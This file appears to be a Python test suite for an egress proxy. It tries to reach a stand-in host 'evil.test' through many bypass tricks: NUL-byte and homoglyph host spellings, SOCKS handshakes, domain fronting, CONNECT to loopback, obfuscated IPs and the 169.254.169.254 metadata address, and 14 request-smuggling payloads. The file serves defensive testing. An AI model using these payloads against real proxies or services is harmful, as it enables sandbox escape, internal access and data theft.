"""B1-B5: an allowed destination named in more than one way."""

from __future__ import annotations

from bot_bottle.verify.case import Case, requests, through
from bot_bottle.verify.stage import ALLOWED, API

#: One host to the proxy, another to a resolver, a C string or a URL parser; M is the mark.
SPELLINGS = {
    "nul-byte": b"M.evil.test\x00.allowed.test:443",
    "nul-byte-first": b"allowed.test\x00.M.evil.test:443",
    "percent-dot": b"M%2eevil%2etest:443",
    "percent-nul": b"M.evil.test%00.allowed.test:443",
    "userinfo": b"allowed.test@M.evil.test:443",
    "userinfo-port": b"allowed.test:443@M.evil.test:443",
    "fragment": b"M.evil.test#.allowed.test:443",
    "slash": b"M.evil.test/.allowed.test:443",
    "backslash": b"M.evil.test\\.allowed.test:443",
    "two-ports": b"M.evil.test:443:443",
    "space": b"M.evil.test allowed.test:443",
    "tab": b"M.evil.test\tallowed.test:443",
    "comma": b"M.evil.test,allowed.test:443",
    "homoglyph": "M.\u0430llowed.test:443".encode(),
    "fullwidth-dot": "M\u3002allowed.test:443".encode(),
    "suffix": b"allowed.test.M.evil.test:443",
    "prefix": b"Mallowed.test:443",
    "subdomain-of-exact": b"M.allowed.test:443",
    "empty-label": b"M..wild.test:443",
    "wildcard-itself": b"*.M.evil.test:443",
    "long-label": b"a" * 64 + b".M.wild.test:443",
    "two-trailing-dots": b"M.wild.test..:443",
    "bracketed-name": b"[M.evil.test]:443",
    "control-byte": b"M\x7f.wild.test:443",
}

_CONNECT_AND_ASK = """
def tunnel(authority, sni):
    sock, answer = connect(authority)
    if b" 200 " not in answer.split(b"\\r\\n")[0]:
        return rest(sock, answer)
    return ask(tls(sock, sni, verify=False), f"GET /{mark} HTTP/1.1\\r\\nHost: {sni}\\r\\n\\r\\n")
"""

_B1 = (
    _CONNECT_AND_ASK
    + """
for name, authority in spellings.items():
    told[name] = reason(attempt(tunnel, authority.replace(b"M", mark.encode()), f"{mark}.evil.test"))
"""
)

_SOCKS = """
name = f"{mark}.evil.test\\0.allowed.test".encode()
five = bytes([5, 1, 0, 5, 1, 0, 3, len(name)]) + name + bytes([1, 0xBB])
four = bytes([4, 1, 1, 0xBB, 0, 0, 0, 1, 0]) + name + bytes(1)
for label, hello in (("5", five), ("4a", four)):
    def speak():
        sock = proxy()
        sock.sendall(hello + b"GET / HTTP/1.1\\r\\n\\r\\n")
        return sock.recv(65536).decode("latin-1")
    answer = attempt(speak)
    refused = not answer or answer.startswith("error") or answer.split(" ")[1:2] > ["4"]
    told[label] = "refused" if refused else "SPOKEN"
"""

_B2 = """
other = f"{mark}.evil.test"
for way in WAYS:
    for name, sni, named in (
        ("sni elsewhere", other, host),
        ("host elsewhere", host, other),
        ("another allowed sni", f"{mark}.wild.test", host),
    ):
        told[f"{name} {way}"] = reason(attempt(request, host, f"/{mark}", way=way, sni=sni, named=named))
"""

_NO_SNI = """
for way in WAYS:
    def bare():
        sock = connect(host + ":443")[0] if way == "proxy" else socket.create_connection((SIDECAR, 443))
        return ask(tls(sock, None, verify=False), f"GET /{mark} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
    told[way] = reason(attempt(bare))
"""

_ADDRESSES = [
    "45.33.255.1:443", "[2606:4700:beef::1]:443", "127.0.0.1:443", "[::1]:443", "0.1.2.3:443",
    "2130706433:443", "0x7f000001:443", "0177.0.0.1:443", "127.1:443", "[::ffff:127.0.0.1]:443",
    "[64:ff9b::a9fe:a9fe]:443", "169.254.169.254:80",
]  # fmt: skip

_B3 = (
    _CONNECT_AND_ASK
    + """
for authority in addresses:
    told[authority] = reason(attempt(tunnel, authority, host))
for port in (22, 25, 853, 5432, 8443, 9418, 0, 65535):
    told[f"port {port}"] = reason(attempt(tunnel, f"{mark}.wild.test:{port}", f"{mark}.wild.test"))
def inner():
    sock, _ = connect(host + ":443")
    where = f"{mark}.evil.test:443"
    return ask(tls(sock, host), f"CONNECT {where} HTTP/1.1\\r\\nHost: {where}\\r\\n\\r\\n")
answer = attempt(inner)
told["CONNECT inside"] = reason(answer)
"""
)

_B4 = """
for text in texts:
    told[text] = reason(attempt(lambda: ask(proxy(), text.replace("M", mark).replace("~", "\\r\\n"))))
"""

_TWO_HOSTS = [
    "GET http://allowed.test/M HTTP/1.1~Host: M.evil.test~~",
    "GET http://M.evil.test/ HTTP/1.1~Host: allowed.test~~",
    "GET http://allowed.test/M HTTP/1.1~Host: allowed.test~Host: M.evil.test~~",
    "GET http://allowed.test/M HTTP/1.1~~",
    "GET http://x@M.evil.test/ HTTP/1.1~Host: M.evil.test~~",
    "GET /M HTTP/1.1~Host: allowed.test~~",
    "GET ftp://allowed.test/M HTTP/1.1~Host: allowed.test~~",
    "GET //M.evil.test/ HTTP/1.1~Host: allowed.test~~",
]

#: Two readings of where a message ends: what one reader takes for a body is the next request of another.
#: Name -> method, header lines as they stand, what follows the empty line.
SMUGGLING = {
    "cl.te": ("POST", "Content-Length: 6\r\nTransfer-Encoding: chunked", "0\r\n\r\n"),
    "te.cl": ("POST", "Transfer-Encoding: chunked\r\nContent-Length: 3", "0\r\n\r\n"),
    "two-lengths": ("POST", "Content-Length: 0\r\nContent-Length: 60", ""),
    "list-length": ("POST", "Content-Length: 0, 60", ""),
    "te-unknown": ("POST", "Transfer-Encoding: xchunked\r\nContent-Length: 0", ""),
    "te-space-colon": ("POST", "Transfer-Encoding : chunked\r\nContent-Length: 0", ""),
    "te-twice": ("POST", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "0\r\n\r\n"),
    "obs-fold": ("GET", "X: y\r\n Content-Length: 60", ""),
    "bare-lf": ("GET", "X: y\nContent-Length: 60", ""),
    "bare-cr": ("GET", "X: a\rTransfer-Encoding: chunked", ""),
    "nul-in-value": ("GET", "X: a\x00b\r\nContent-Length: 60", ""),
    "negative-length": ("POST", "Content-Length: -1", ""),
    "plus-length": ("POST", "Content-Length: +0", ""),
    "bad-chunk-size": ("POST", "Transfer-Encoding: chunked", "0x0\r\n\r\n"),
}

_SMUGGLE = """
for name, (method, headers, body) in kinds.items():
    first = f"{method} http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n{headers}\\r\\n\\r\\n{body}"
    second = f"GET http://allowed.test/{mark} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    answer = attempt(lambda: ask(proxy(), (first + second).encode("latin-1")))
    told[name] = "refused" if answer.split(" ")[1:2] == ["400"] else answer.split("\\r\\n")[0]
"""

_B5 = """
def two(first, second, over_tls):
    sock = proxy()
    if over_tls:
        sock = tls(connect(host + ":443")[0], host)
    ask(sock, first)
    return ask(sock, second)
told["another host"] = reason(attempt(two,
    f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n",
    f"GET http://{mark}.evil.test/ HTTP/1.1\\r\\nHost: {mark}.evil.test\\r\\n\\r\\n", False))
told["another allowed host in a tunnel"] = reason(attempt(two,
    f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n",
    f"GET /{mark} HTTP/1.1\\r\\nHost: {api}\\r\\n\\r\\n", True))
"""

#: Reasons of refusals for names that are none, or not the allowed ones.
BAD_NAMES = (
    "bad_authority",
    "connect_denied",
    "bad_host",
    "bad_request",
    "host_not_allowed",
    "names_disagree",
    "port_not_allowed",
)
_ONE_HOST = ("names_disagree", "duplicate_host", "host_missing", "bad_request", "bad_authority", "bad_host",
             "bad_target",
             "path_ambiguous", "host_not_allowed")  # fmt: skip

CASES = (
    Case(
        id="B1",
        title="a host in 24 spellings (NUL, percent, userinfo, homoglyphs)",
        expected="refused as what it is",
        run=requests(_B1, reasons=BAD_NAMES, spellings=SPELLINGS),
    ),
    Case(
        id="B1",
        title="SOCKS 4a and 5 at the proxy's port",
        expected="not spoken",
        run=requests(_SOCKS, wrong=through),
    ),
    Case(
        id="B2",
        title="domain fronting: CONNECT, SNI and Host that differ",
        expected="refused",
        run=requests(_B2, reasons=("names_disagree",), host=ALLOWED),
    ),
    Case(
        id="B2",
        title="TLS without a name",
        expected="refused",
        run=requests(_NO_SNI, reasons=("sni_missing",), host=ALLOWED),
    ),
    Case(
        id="B3",
        title="CONNECT to addresses, other ports, inside a tunnel",
        expected="refused",
        run=requests(
            _B3,
            reasons=(*BAD_NAMES, "method_denied", "method_not_allowed"),
            addresses=_ADDRESSES,
            host=ALLOWED,
        ),
    ),
    Case(
        id="B4",
        title="target and Host that differ, twice or missing",
        expected="refused",
        run=requests(_B4, reasons=_ONE_HOST, texts=_TWO_HOSTS),
    ),
    Case(
        id="B4",
        title="request smuggling, 14 kinds",
        expected="no second request comes out",
        run=requests(
            _SMUGGLE,
            wrong=lambda _stage, told: next(
                (f"{name}: {end}" for name, end in told.items() if end != "refused"), ""
            ),
            kinds=SMUGGLING,
        ),
    ),
    Case(
        id="B5",
        title="another host later on one connection",
        expected="decided anew",
        run=requests(_B5, reasons=("host_not_allowed", "names_disagree"), host=ALLOWED, api=API),
    ),
)
